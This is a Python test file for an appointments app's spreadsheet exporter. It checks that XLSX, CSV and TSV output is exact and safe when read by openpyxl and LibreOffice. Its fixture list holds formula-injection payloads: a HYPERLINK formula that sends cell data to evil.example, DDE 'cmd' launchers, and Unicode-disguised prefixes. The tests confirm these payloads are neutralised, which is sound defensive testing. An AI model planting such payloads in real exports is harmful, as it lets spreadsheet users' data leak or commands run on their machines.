"""Exports read back by the programs people open them with: openpyxl and LibreOffice."""

# Exports hold wall-clock times, which have no time zone.
# ruff: noqa: DTZ001

from __future__ import annotations

import csv
import io
import resource
import shutil
import subprocess
import tempfile
import threading
import tracemalloc
from collections.abc import Iterable, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from appointments_app.integrations.spreadsheets import Column, FileType, Kind, workbook, write
from appointments_app.integrations.spreadsheets.formulas import harmless

COLUMNS = [
    Column("client", "Client"),
    Column("start", "Start", Kind.DATETIME),
    Column("created", "Created on", Kind.DATE),
    Column("minutes", "Minutes", Kind.NUMBER),
    Column("paid", "Paid", Kind.BOOL),
]
ROW = ("Ahmed Hassan", datetime(2026, 3, 1, 9, 30), date(2026, 2, 28), -45, True)
EMPTY_ROW = (None, None, None, None, None)
TEXT_FILES = {FileType.CSV_COMMA: ",", FileType.CSV_SEMICOLON: ";", FileType.TSV: "\t"}

PHONES = ["+20 100 123 4567", "+201001234567", "+1 (555) 010-9999"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "+20 100 123 4567\n=1+1",
    "+1*cmd",
]
TEXTS = [
    "emoji 👩‍⚕️🦷",
    "أحمد \u200fحسن\u200e",
    "<script>alert(1)</script> & \"quoted\" 'single'",
    "a,b;c\td",
    "first\nsecond",
    "x" * 10_000,
    "https://example.org/a=b",
    "0012",
    "  blanks around  ",
]


def written(kind: FileType, columns: list[Column], rows: Iterable[tuple[Any, ...]], **options: Any) -> bytes:
    return b"".join(write(kind, columns, rows, **options))


def sheet_of(data: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def texts_in_sheet(cells: list[str]) -> list[Any]:
    data = written(FileType.XLSX, [Column("t", "Text")], [(cell,) for cell in cells])
    return [row[0] for row in sheet_of(data).iter_rows(min_row=2, values_only=True)]


def texts_in_file(cells: list[str], kind: FileType = FileType.CSV_COMMA) -> list[str]:
    data = written(kind, [Column("n", "No", Kind.NUMBER), Column("t", "Text")], list(enumerate(cells)))
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=TEXT_FILES[kind])
    return [row[1] for row in list(reader)[1:]]


def libreoffice(folder: Path, name: str, data: bytes, to: str, *options: str) -> Path:
    program = shutil.which("soffice")
    if program is None:
        pytest.fail("LibreOffice (soffice) is missing: install the package libreoffice-calc-nogui or libreoffice-calc")
    (folder / name).write_bytes(data)
    command = [program, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore", *options]
    command += ["--convert-to", to, "--outdir", str(folder / "out"), str(folder / name)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    made = list((folder / "out").glob("*"))
    assert made, f"LibreOffice could not read {name}: {done.stdout} {done.stderr}"
    return made[0]


def through_libreoffice(folder: Path, data: bytes) -> list[list[str]]:
    """The sheet as LibreOffice shows it: comma, UTF-8, cells as displayed."""
    path = libreoffice(folder, "export.xlsx", data, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true")
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def many(count: int) -> Iterator[tuple[Any, ...]]:
    start = datetime(2025, 1, 1, 8)
    for number in range(count):
        moment = start + timedelta(minutes=15 * number)
        yield (f"Client {number}", moment, moment.date(), number, number % 2 == 0)


def test_r35_file_types_have_extension_and_media_type() -> None:
    assert [kind.value for kind in FileType] == ["xlsx", "csv_comma", "csv_semicolon", "tsv"]
    assert [kind.extension for kind in FileType] == ["xlsx", "csv", "csv", "tsv"]
    assert FileType.XLSX.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert FileType.CSV_SEMICOLON.media_type == "text/csv; charset=utf-8"
    assert FileType.TSV.media_type == "text/tab-separated-values; charset=utf-8"


@pytest.mark.parametrize(("kind", "delimiter"), TEXT_FILES.items())
def test_r36_text_files_byte_for_byte(kind: FileType, delimiter: str) -> None:
    name = f'Say "hi"{delimiter}\nyou'
    lines = [
        "Client,Start,Created on,Minutes,Paid",
        "Ahmed Hassan,2026-03-01 09:30:00,2026-02-28,-45,TRUE",
        ",,,,",
        '"Say ""hi""@\nyou",2026-03-01 09:30:00,2026-02-28,-45,TRUE',
    ]
    expected = "\ufeff" + "".join(line.replace(",", delimiter).replace("@", delimiter) + "\r\n" for line in lines)
    assert written(kind, COLUMNS, [ROW, EMPTY_ROW, (name, *ROW[1:])]).decode() == expected


@pytest.mark.parametrize("kind", FileType)
def test_no_rows_still_give_the_header(kind: FileType) -> None:
    data = written(kind, COLUMNS, [])
    if kind is FileType.XLSX:
        sheet = sheet_of(data)
        assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [[c.title for c in COLUMNS]]
        assert sheet.auto_filter.ref == "A1:E1"
    else:
        assert data.decode("utf-8-sig") == TEXT_FILES[kind].join(c.title for c in COLUMNS) + "\r\n"


@pytest.mark.parametrize("kind", TEXT_FILES)
def test_r36_formulas_get_an_apostrophe_in_text_files(kind: FileType) -> None:
    assert texts_in_file(FORMULAS, kind) == ["'" + cell for cell in FORMULAS]


@pytest.mark.parametrize("kind", TEXT_FILES)
def test_r36_phones_and_plain_text_are_untouched_in_text_files(kind: FileType) -> None:
    assert texts_in_file(PHONES + TEXTS, kind) == PHONES + TEXTS


def test_a_title_cannot_be_a_formula_either() -> None:
    assert written(FileType.CSV_COMMA, [Column("t", "=1+1")], []).decode("utf-8-sig") == "'=1+1\r\n"


def test_harmless_leaves_the_empty_cell_alone() -> None:
    assert harmless("") == "" and harmless("   ") == "   "


def test_values_that_are_not_text_in_a_text_column_are_written_as_text() -> None:
    rows = [(7,), (None,), (FileType.TSV,), (-3,)]
    assert (
        written(FileType.CSV_COMMA, [Column("t", "T")], rows).decode("utf-8-sig") == 'T\r\n7\r\n""\r\ntsv\r\n\'-3\r\n'
    )
    sheet = sheet_of(written(FileType.XLSX, [Column("t", "T")], rows))
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["7", None, "tsv", "-3"]


@pytest.mark.parametrize("kind", TEXT_FILES)
def test_nul_and_half_characters_do_not_break_text_files(kind: FileType) -> None:
    assert texts_in_file(["a\x00b", "c\ud800d"], kind) == ["ab", "c?d"]


def test_r36_xlsx_has_real_dates_numbers_and_booleans() -> None:
    sheet = sheet_of(written(FileType.XLSX, COLUMNS, [ROW, EMPTY_ROW]))
    cells = next(sheet.iter_rows(min_row=2, max_row=2))
    midnight = datetime(2026, 2, 28)
    assert [cell.value for cell in cells] == ["Ahmed Hassan", datetime(2026, 3, 1, 9, 30), midnight, -45, True]
    assert [cell.data_type for cell in cells] == ["s", "d", "d", "n", "b"]
    assert [cell.number_format.replace("\\", "") for cell in cells[1:3]] == ["yyyy-mm-dd hh:mm", "yyyy-mm-dd"]
    assert [cell.value for cell in next(sheet.iter_rows(min_row=3))] == [None] * 5


def test_every_second_of_a_day_and_far_dates_are_exact() -> None:
    start = datetime(2026, 3, 28)
    moments = [start + timedelta(seconds=second) for second in range(0, 86_400, 7)]
    moments += [datetime(1900, 3, 1), datetime(1970, 1, 1, 0, 0, 1), datetime(9999, 12, 31, 23, 59, 59)]
    data = written(FileType.XLSX, [Column("m", "M", Kind.DATETIME)], [(moment,) for moment in moments])
    assert [row[0] for row in sheet_of(data).iter_rows(min_row=2, values_only=True)] == moments


def test_days_before_the_format_begins_are_text() -> None:
    columns = [Column("m", "M", Kind.DATETIME), Column("d", "D", Kind.DATE)]
    sheet = sheet_of(written(FileType.XLSX, columns, [(datetime(1850, 5, 4, 12), date(1899, 12, 31))]))
    assert [cell.value for cell in sheet[2]] == ["1850-05-04 12:00:00", "1899-12-31"]


def test_moments_with_a_time_zone_are_refused() -> None:
    aware = datetime.fromisoformat("2026-03-01T09:30:00+02:00")
    for kind in FileType:
        with pytest.raises(TypeError):
            written(kind, [Column("m", "M", Kind.DATETIME)], [(aware,)])


def test_numbers_that_are_none_are_text() -> None:
    data = written(FileType.XLSX, [Column("n", "N", Kind.NUMBER)], [(float("nan"),), (True,), (2.5,), (10**15,)])
    assert [row[0] for row in sheet_of(data).iter_rows(min_row=2, values_only=True)] == ["nan", 1, 2.5, 10**15]


def test_r36_nothing_runs_in_xlsx() -> None:
    cells = [*FORMULAS, *PHONES]
    data = written(FileType.XLSX, [Column("t", "=1+1")], [(cell,) for cell in cells])
    read = [row[0] for row in sheet_of(data).iter_rows(min_row=1)]
    assert {cell.data_type for cell in read} <= {"s", "inlineStr"}
    assert [cell.value for cell in read] == ["=1+1", *(cell.replace("\r", "\n") for cell in cells)]


def test_text_comes_out_of_xlsx_as_it_went_in() -> None:
    assert texts_in_sheet(TEXTS) == TEXTS


def test_control_characters_are_removed_and_line_breaks_unified() -> None:
    everything = "".join(map(chr, range(32))) + "\ufffe\uffff\ud800end"
    assert texts_in_sheet([everything, "a\x00b", "one\r\ntwo\rthree"]) == ["\t\n\nend", "ab", "one\ntwo\nthree"]


def test_cells_end_at_the_limit_of_the_format() -> None:
    fits, too_long, emoji = "y" * 32_767, "y" * 32_768, "🦷" * 20_000
    read = texts_in_sheet([fits, too_long, emoji])
    assert read == [fits, "y" * 32_766 + "…", "🦷" * 16_383 + "…"]


def test_xlsx_has_a_bold_frozen_header_a_filter_and_sensible_widths() -> None:
    sheet = sheet_of(written(FileType.XLSX, COLUMNS, [ROW, ("z" * 500, *ROW[1:])]))
    assert all(cell.font.b for cell in sheet[1]) and not any(cell.font.b for cell in sheet[2])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:E3"
    assert [sheet.column_dimensions[letter].width for letter in "ABCDE"] == [48, 17, 14, 12, 8]
    assert sheet.title == "Appointments"


@pytest.mark.parametrize("right_to_left", [True, False])
def test_sheet_direction(right_to_left: bool) -> None:
    sheet = sheet_of(written(FileType.XLSX, COLUMNS, [ROW], right_to_left=right_to_left))
    assert bool(sheet.sheet_view.rightToLeft) is right_to_left


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("a[b]:c*d?e/f\\g", "a b  c d e f g"),
        ("'Bob's'", "Bob's"),
        ("", "Sheet"),
        ("ع" * 40, "ع" * 31),
        ("A&B<", "A&B<"),
    ],
)
def test_sheet_names_are_legal(title: str, name: str) -> None:
    assert sheet_of(written(FileType.XLSX, COLUMNS, [ROW], title=title)).title == name


def test_a_full_sheet_is_followed_by_another(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 1_001)
    data = written(FileType.XLSX, COLUMNS, many(2_500), right_to_left=True, title="Bob's day")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Bob's day", "Bob's day (2)", "Bob's day (3)"]
    assert [sheet.max_row for sheet in book] == [1_001, 1_001, 501]
    assert [sheet.auto_filter.ref for sheet in book] == ["A1:E1001", "A1:E1001", "A1:E501"]
    assert [sheet["A1"].value for sheet in book] == ["Client"] * 3
    assert all(sheet.freeze_panes == "A2" and sheet.sheet_view.rightToLeft for sheet in book)
    assert [row[3] for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)] == list(range(2_500))
    assert len(through_libreoffice(tmp_path, data)) == 1_001


def test_a_sheet_ends_before_its_part_needs_zip64(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "SHEET_BYTES", 100_000)
    book = openpyxl.load_workbook(io.BytesIO(written(FileType.XLSX, COLUMNS, many(3_000))))
    assert len(book.sheetnames) > 1
    assert sum(sheet.max_row - 1 for sheet in book) == 3_000


def test_r36_libreoffice_shows_the_same(tmp_path: Path) -> None:
    cells = [*TEXTS, *PHONES, *(cell.replace("\r", "\n") for cell in FORMULAS), "_x0041_ stays", "y" * 32_767]
    data = written(FileType.XLSX, COLUMNS, [(cell, *ROW[1:]) for cell in cells], right_to_left=True)
    shown = through_libreoffice(tmp_path, data)
    assert shown[0] == [column.title for column in COLUMNS]
    assert [row[0] for row in shown[1:]] == cells
    assert {tuple(row[1:]) for row in shown[1:]} == {("2026-03-01 09:30", "2026-02-28", "-45", "TRUE")}


def test_libreoffice_understands_direction_header_and_filter(tmp_path: Path) -> None:
    data = written(FileType.XLSX, COLUMNS, [ROW], right_to_left=True)
    sheet = sheet_of(libreoffice(tmp_path, "export.xlsx", data, "xlsx").read_bytes())
    # Without a window LibreOffice saves no panes, whoever wrote the file: the frozen header is checked with openpyxl.
    assert sheet.sheet_view.rightToLeft and sheet.auto_filter.ref == "A1:E2"
    assert sheet["A1"].font.b and sheet["B2"].value == datetime(2026, 3, 1, 9, 30)


def test_r36_libreoffice_runs_nothing_from_csv(tmp_path: Path) -> None:
    evaluating = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
    data = written(FileType.CSV_COMMA, [Column("t", "Text")], [(cell,) for cell in FORMULAS + PHONES])
    unguarded = b"=1+1\r\n"
    sheet = sheet_of(libreoffice(tmp_path, "export.csv", data + unguarded, "xlsx", evaluating).read_bytes())
    kinds = [row[0].data_type for row in sheet.iter_rows(min_row=2)]
    assert kinds.pop() == "f", "LibreOffice no longer runs formulas here, so this test proves nothing"
    assert "f" not in kinds


@pytest.mark.parametrize("kind", FileType)
def test_memory_stays_flat(kind: FileType) -> None:
    next(write(kind, COLUMNS, many(1)))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        size = sum(map(len, write(kind, COLUMNS, many(20_000))))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    size += sum(map(len, write(kind, COLUMNS, many(100_000))))
    assert size > 1_000_000
    assert peak < 10_000_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60_000


class Rows:
    """Endless rows that count how often they are pulled, and remember being closed."""

    def __init__(self) -> None:
        self.pulled = 0
        self.closed = False

    def __iter__(self) -> Rows:
        return self

    def __next__(self) -> tuple[Any, ...]:
        self.pulled += 1
        return ROW

    def close(self) -> None:
        self.closed = True


@pytest.mark.parametrize("kind", FileType)
def test_the_first_piece_needs_no_row(kind: FileType) -> None:
    rows = Rows()
    assert next(write(kind, COLUMNS, rows))
    assert rows.pulled == 0


@pytest.mark.parametrize("kind", FileType)
def test_closing_the_stream_stops_the_work_and_leaves_nothing(
    kind: FileType, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, recwarn: pytest.WarningsRecorder
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    threads = threading.active_count()
    rows = Rows()
    stream = write(kind, COLUMNS, rows)
    for _ in range(5):
        next(stream)
    pulled = rows.pulled
    assert 0 < pulled <= 20_000
    stream.close()
    assert rows.closed and rows.pulled == pulled
    assert list(tmp_path.iterdir()) == [] and threading.active_count() == threads
    assert not recwarn.list


@pytest.mark.parametrize("kind", FileType)
def test_rows_that_fail_fail_the_stream(kind: FileType) -> None:
    def failing() -> Iterator[tuple[Any, ...]]:
        yield ROW
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        written(kind, COLUMNS, failing())


@pytest.mark.parametrize("kind", FileType)
def test_rows_of_another_length_are_refused(kind: FileType) -> None:
    with pytest.raises(ValueError):
        written(kind, COLUMNS, [ROW[:3]])
    with pytest.raises(ValueError):
        written(kind, COLUMNS, [ROW, ROW[:3]])
